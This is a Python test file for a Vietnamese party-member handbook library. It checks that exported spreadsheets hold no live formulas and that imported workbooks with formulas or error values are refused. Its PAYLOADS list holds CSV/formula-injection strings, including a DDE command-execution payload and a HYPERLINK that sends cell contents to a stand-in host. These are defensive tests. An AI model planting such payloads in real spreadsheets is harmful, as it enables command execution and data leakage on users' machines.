"""Hostile input: no live formulas in any workbook the library writes (issue 15, class 3),
and none accepted in a workbook it reads.

Roster values such as ``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``@SUM(…)`` or a tab
followed by ``=1+1`` are written as text, neutralised with a leading quote as OWASP
recommends, and read back unchanged.
"""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import attrs
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.formula import ArrayFormula

from hostile import (
    append_row,
    cli_runner,
    edit_workbook,
    exported_workbook,
    open_cell,
    reported_handbook,
    set_cells,
)
from lamtheoguongbac import DeliverableTarget, Handbooks, ImportFailed, Pledge
from lamtheoguongbac.spreadsheet import (
    read_inspection_workbook,
    read_workbook,
    workbook_data,
    write_inspection_workbook,
    write_rollup,
    write_template,
)
from lamtheoguongbac.testing import make_inspection
from strategies import CELL, MEMBER, SECRETARY, YEAR, full_report, good_pledges, self_assessment

PAYLOADS = [
    '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "''-đã có dấu nháy",
    "- Giải quyết hồ sơ đúng hạn",
]


def _formula_cells(path: Path) -> list[str]:
    wb = load_workbook(path)
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _hostile_service():  # type: ignore[no-untyped-def]
    service = open_cell()
    members = service.roster.members()
    for i, (member, payload) in enumerate(zip(members, PAYLOADS, strict=False)):
        service.roster.save([], [attrs.evolve(member, workplace=payload, position=PAYLOADS[-i])])
    cell = attrs.evolve(CELL, name=PAYLOADS[0], place=PAYLOADS[2])
    service.roster.save([cell], [])
    reported_handbook(service)
    return service


def test_the_exported_workbook_has_no_formula_and_reads_back_unchanged(tmp_path: Path) -> None:
    service = _hostile_service()
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    assert _formula_cells(path) == []
    ws = load_workbook(path)["Đảng viên"]
    texts = [c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert "'" + PAYLOADS[0] in texts
    assert "'" + PAYLOADS[1] in texts
    data = read_workbook(path)
    expected = workbook_data(
        service.find(year=YEAR), service.roster.members(), service.store.units()
    )
    assert set(data.members) == set(expected.members)
    assert set(data.units) == set(expected.units)
    assert {m.workplace for m in data.members} >= set(PAYLOADS[:4])


def test_the_template_and_the_rollup_have_no_formula(tmp_path: Path) -> None:
    write_template(tmp_path / "mau.xlsx")
    assert _formula_cells(tmp_path / "mau.xlsx") == []
    service = _hostile_service()
    figures = service.supervision.rollup(organisation_id=CELL.id, year=YEAR)
    write_rollup(tmp_path / "tong-hop.xlsx", figures)
    assert _formula_cells(tmp_path / "tong-hop.xlsx") == []
    ws = load_workbook(tmp_path / "tong-hop.xlsx")["Tổng hợp"]
    assert any(c.value == "'" + PAYLOADS[0] for row in ws.iter_rows() for c in row)


def _deliverable() -> Pledge:
    """A pledge whose deliverable's due date is its deadline (one column on the sheet)."""
    return Pledge(
        id="viec-3",
        deed=f"Xây dựng 01 sáng kiến số hóa hồ sơ một cửa, hoàn thành trước 30/11/{YEAR}.",
        target=DeliverableTarget(description="01 sáng kiến", due=dt.date(YEAR, 11, 30)),
        task="Tiếp nhận và giải quyết hồ sơ một cửa",
        bases=good_pledges(1)[0].bases,
    )


def test_reimporting_the_export_unchanged_changes_nothing(tmp_path: Path) -> None:
    """The "deliverable pledge" case: a deliverable's due date is its deadline on the sheet."""
    service = open_cell()
    book = service.create(MEMBER.id, year=YEAR, actor=MEMBER)
    deliverable = _deliverable()
    pledges = (*good_pledges(2), deliverable)
    service.register_pledges(book.id, pledges, actor=MEMBER)
    service.report_results(
        book.id, full_report(pledges), actor=MEMBER, self_assessment=self_assessment()
    )
    before = service.history(book.id)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    result = service.import_workbook(read_workbook(path), year=YEAR, actor=MEMBER)
    assert result.events == ()
    assert service.history(book.id) == before


@pytest.mark.parametrize("command", ["export", "stats"])
def test_the_cli_writes_no_formula(command: str, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'so-tay.db'}"
    service = open_cell(url)
    service.roster.save([], [attrs.evolve(MEMBER, workplace=PAYLOADS[1])])
    service.close()
    run = cli_runner(url)
    out = tmp_path / "ra.xlsx"
    if command == "export":
        result = run("workbook", "export", str(out), "--year", str(YEAR), "--cell", CELL.id)
    else:
        result = run("stats", "--org", CELL.id, "--year", str(YEAR), "--xlsx", str(out))
    assert result.exit_code == 0, result.output
    assert _formula_cells(out) == []


# --- formulas in the workbooks the library reads --------------------------------------------
#
# A workbook to import is untrusted and is read for its values. A cell holding a formula has
# no value of its own, only what a spreadsheet program last computed (nothing at all when the
# file was written by another program), so it is refused, named by file, sheet, row and
# column, and nothing is imported.

FORMULAS = ['=HYPERLINK("http://x.example","a")', "=A1", "=TODAY()", "=1+1"]


def _member_row(path: Path, member_id: str) -> int:
    ws = load_workbook(path)["Đảng viên"]
    return next(row[0].row for row in ws.iter_rows(min_row=2) if row[0].value == member_id)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_roster_cell_is_refused_naming_the_cell(
    formula: str, tmp_path: Path
) -> None:
    service = open_cell()
    reported_handbook(service)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    edit_workbook(path, {"Đảng viên": set_cells(MEMBER.id, {"chuc_vu": formula})})
    row = _member_row(path, MEMBER.id)
    with pytest.raises(ImportFailed) as refused:
        read_workbook(path)
    problems = refused.value.errors
    assert len(problems) == 1, problems
    text = str(problems[0])
    assert f"Trang 'Đảng viên', dòng {row}, cột E 'Chức vụ'" in text
    assert f"sheet 'Đảng viên', row {row}, column E 'Chức vụ'" in text
    assert "ô chứa công thức" in text
    assert "the cell holds a formula" in text
    assert "not a value" in text
    assert str(path) in refused.value.message("vi")
    assert str(path) in refused.value.message("en")


def test_a_formula_in_a_required_pledge_cell_is_named_not_taken_for_a_blank(
    tmp_path: Path,
) -> None:
    service = open_cell()
    reported_handbook(service)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    edit_workbook(
        path, {"Việc đăng ký": set_cells(MEMBER.id, {"viec_lam": "=A1", "chi_tieu": "=2*3"})}
    )
    with pytest.raises(ImportFailed) as refused:
        read_workbook(path)
    text = "\n".join(str(p) for p in refused.value.errors)
    assert "a value is required" not in text
    assert "cột C 'Việc làm đăng ký': ô chứa công thức (=A1)" in text
    assert "column D 'Chỉ tiêu (số lượng)': the cell holds a formula (=2*3), not a value" in text


def test_a_formula_in_a_date_cell_is_refused_and_real_dates_still_read(tmp_path: Path) -> None:
    service = open_cell()
    reported_handbook(service)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    born = dt.date(1980, 5, 17)
    edit_workbook(path, {"Đảng viên": set_cells(MEMBER.id, {"ngay_sinh": born})})
    assert next(m for m in read_workbook(path).members if m.id == MEMBER.id).date_of_birth == born
    edit_workbook(path, {"Đảng viên": set_cells(MEMBER.id, {"ngay_sinh": "=DATE(1980,5,17)"})})
    with pytest.raises(ImportFailed, match="cột H 'Ngày sinh': ô chứa công thức"):
        read_workbook(path)


def test_a_formula_in_a_header_is_refused(tmp_path: Path) -> None:
    service = open_cell()
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")

    def edit(ws: object) -> None:
        ws.cell(row=1, column=5, value='="Chức "&"vụ"')  # type: ignore[attr-defined]

    edit_workbook(path, {"Đảng viên": edit})
    with pytest.raises(ImportFailed) as refused:
        read_workbook(path)
    assert "Trang 'Đảng viên', dòng 1: ô E1 chứa công thức" in str(refused.value.errors[0])


def test_the_cli_refuses_a_formula_and_keeps_the_stored_position(tmp_path: Path) -> None:
    """The user trial: a formula in ``Chức vụ`` imported with exit 0 and wiped the position."""
    url = f"sqlite:///{tmp_path / 'so-tay.db'}"
    service = open_cell(url)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    service.close()
    edit_workbook(path, {"Đảng viên": set_cells(MEMBER.id, {"chuc_vu": '=HYPERLINK("x","a")'})})
    run = cli_runner(url)
    result = run("workbook", "import", str(path), "--year", str(YEAR), "--as", SECRETARY.id)
    assert result.exit_code != 0, result.output
    assert "chứa công thức" in result.output
    with Handbooks.open(url) as reopened:
        assert reopened.roster.member(MEMBER.id).position == MEMBER.position


def test_a_formula_in_the_inspection_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "kiem-tra.xlsx"
    write_inspection_workbook(path, inspection=make_inspection(followed_up=True))
    wb = load_workbook(path)
    ws = wb["Kiểm tra"]
    ws["H2"] = '=CONCAT("Họp ","lại")'  # Yêu cầu
    ws["C2"] = "=B2"  # Chi bộ: shown for reading only, never read, so a formula is harmless
    wb.save(path)
    with pytest.raises(ImportFailed) as refused:
        read_inspection_workbook(path)
    problems = [str(p) for p in refused.value.errors]
    assert len(problems) == 1, problems
    assert problems[0].startswith("Kiểm tra, dòng 2, cột H (Yêu cầu): ô chứa công thức")
    assert "the cell holds a formula" in problems[0]
    assert str(path) in refused.value.message("en")


def test_a_formula_is_refused_even_with_the_value_excel_cached(tmp_path: Path) -> None:
    """Excel saves a formula with its last computed value beside it; that value is not taken
    either (an array formula, too, is refused, not a crash)."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Đảng viên"
    ws.append(["Mã đảng viên", "Họ và tên", "Mã chi bộ", "Chức vụ"])
    ws.append(["dv01", "Nguyễn Văn An", "cb01", "Bí thư"])
    ws.append(["dv02", "Trần Thị Bình", "cb01", "=B2"])
    ws["D4"] = ArrayFormula("D4", "=UPPER(B2)")
    ws["A4"], ws["B4"], ws["C4"] = "dv03", "Lê Minh Cường", "cb01"
    plain = tmp_path / "plain.xlsx"
    wb.save(plain)
    cached = tmp_path / "excel.xlsx"
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(cached, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                before = b'<c r="D3"><f>B2</f><v></v></c>'
                assert before in data
                after = '<c r="D3" t="str"><f>B2</f><v>Nguyễn Văn An</v></c>'.encode()
                data = data.replace(before, after)
            dst.writestr(info, data)
    assert load_workbook(cached, data_only=True)["Đảng viên"]["D3"].value == "Nguyễn Văn An"
    with pytest.raises(ImportFailed) as refused:
        read_workbook(cached)
    problems = [str(p) for p in refused.value.errors]
    assert len(problems) == 2, problems
    assert problems[0].startswith("Trang 'Đảng viên', dòng 3, cột D 'Chức vụ': ô chứa công thức")
    assert problems[1].startswith("Trang 'Đảng viên', dòng 4, cột D 'Chức vụ': ô chứa công thức")
    assert "(=UPPER(B2))" in problems[1]


@pytest.mark.parametrize("error", ["#N/A", "#REF!", "#DIV/0!", "#VALUE!"])
def test_a_spreadsheet_error_value_is_refused_not_read_as_text(error: str, tmp_path: Path) -> None:
    """A column of looked-up values pasted as values keeps its error cells; they read as
    text ("#REF!") and were stored as the member's name or the cell's assessment."""
    service = open_cell()
    reported_handbook(service)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    edit_workbook(path, {"Đảng viên": set_cells(MEMBER.id, {"ho_va_ten": error})})
    row = _member_row(path, MEMBER.id)
    assert load_workbook(path)["Đảng viên"].cell(row=row, column=2).data_type == "e"
    with pytest.raises(ImportFailed) as refused:
        read_workbook(path)
    (problem,) = refused.value.errors
    text = str(problem)
    assert f"Trang 'Đảng viên', dòng {row}, cột B 'Họ và tên': ô có giá trị lỗi {error}" in text
    assert f"sheet 'Đảng viên', row {row}, column B 'Họ và tên': the cell holds the " in text
    assert f"spreadsheet error {error}, not a value" in text
    assert service.roster.member(MEMBER.id).full_name == MEMBER.full_name  # nothing written


def test_rows_and_columns_past_a_stale_declared_size_are_read(tmp_path: Path) -> None:
    """Programs that write workbooks leave the sheet's declared size (<dimension>) stale;
    the rows and columns past it were dropped without a word."""
    service = open_cell()
    reported_handbook(service)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    newcomer = "dv-moi"
    edit_workbook(
        path,
        {
            "Đảng viên": append_row(
                {
                    "ma": newcomer,
                    "ho_va_ten": "Ngô Thị Lan",
                    "chi_bo": CELL.id,
                    "chuc_vu": "Kế toán",
                }
            )
        },
    )
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    stale = {}
    for name, data in parts.items():
        if name.startswith("xl/worksheets/sheet") and b'<dimension ref="' in data:
            start = data.index(b'<dimension ref="') + len(b'<dimension ref="')
            end = data.index(b'"', start)
            stale[name] = data[:start] + b"A1:B2" + data[end:]  # declares 2 rows, 2 columns
    assert stale
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, stale.get(name, data))
    read = read_workbook(path)
    member = next(m for m in read.members if m.id == newcomer)
    assert member.position == "Kế toán"  # column E, past the declared B
    assert {m.id for m in read.members} >= {m.id for m in service.roster.members()}


def test_an_error_value_in_the_inspection_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "kiem-tra.xlsx"
    write_inspection_workbook(path, inspection=make_inspection(followed_up=True))
    wb = load_workbook(path)
    wb["Kiểm tra"]["H2"] = "#N/A"  # Yêu cầu
    assert wb["Kiểm tra"]["H2"].data_type == "e"
    wb.save(path)
    with pytest.raises(ImportFailed) as refused:
        read_inspection_workbook(path)
    (problem,) = [str(p) for p in refused.value.errors]
    assert problem.startswith("Kiểm tra, dòng 2, cột H (Yêu cầu): ô có giá trị lỗi #N/A")
    assert "the cell holds the spreadsheet error #N/A, not a value" in problem


@pytest.mark.parametrize(
    ("sheet", "key", "column"),
    [("Kết quả", "ngay_bao_cao", "Ngày báo cáo"), ("Tự đánh giá", "ngay_viet", "Ngày viết")],
)
@pytest.mark.parametrize("day", [dt.date(1901, 1, 1), dt.date(9999, 12, 31), "31/12/2999"])
def test_a_date_out_of_range_is_named_at_its_cell(
    sheet: str, key: str, column: str, day: object, tmp_path: Path
) -> None:
    """It escaped the reader (the model refused it later, naming a field such as
    ``ResultReport.submitted_on`` and no sheet or row), or was reported twice."""
    service = open_cell()
    reported_handbook(service)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    edit_workbook(path, {sheet: set_cells(MEMBER.id, {key: day})})
    with pytest.raises(ImportFailed) as refused:
        read_workbook(path)
    problems = [str(p) for p in refused.value.errors]
    assert f"Trang '{sheet}', dòng 2, cột" in problems[0]
    for problem in problems:  # one for each of the member's rows edited, each at its cell
        assert f"'{column}': " in problem
        assert "ngày " in problem
        assert "nằm ngoài khoảng cho phép 01/01/1930–31/12/2200" in problem
        assert "is out of range (1930-01-01 to 2200-12-31)" in problem


def test_a_missing_report_date_is_reported_with_the_members_other_problems(
    tmp_path: Path,
) -> None:
    """Every problem at once: the missing date was left out when the member's rows had
    another problem (an unknown pledge), and the user had to submit twice."""
    service = open_cell()
    reported_handbook(service)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    edit_workbook(path, {"Kết quả": set_cells(MEMBER.id, {"ngay_bao_cao": "", "ma_viec": "x9"})})
    with pytest.raises(ImportFailed) as refused:
        read_workbook(path)
    text = "\n".join(str(p) for p in refused.value.errors)
    assert "has no pledge 'x9'" in text
    assert "the report date is required" in text


def test_a_date_outside_the_period_is_reported_once_a_row(tmp_path: Path) -> None:
    """A pledge whose deadline is also its deliverable's due date was reported twice on its
    row: at the deadline's column, and again at the row without a column."""
    service = open_cell()
    book = service.create(MEMBER.id, year=YEAR, actor=MEMBER)
    deliverable = _deliverable()
    service.register_pledges(book.id, (*good_pledges(1), deliverable), actor=MEMBER)
    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
    data = read_workbook(path)
    with pytest.raises(ImportFailed) as refused:  # the same pledges for the next year
        service.import_workbook(data, year=YEAR + 1, actor=SECRETARY)
    problems = [str(p) for p in refused.value.errors]
    outside = [p for p in problems if "LTGB-P004" in p]
    assert outside
    rows = [p.split(":")[0] for p in outside]
    assert len(rows) == len({r.split(", cột")[0] for r in rows}), problems
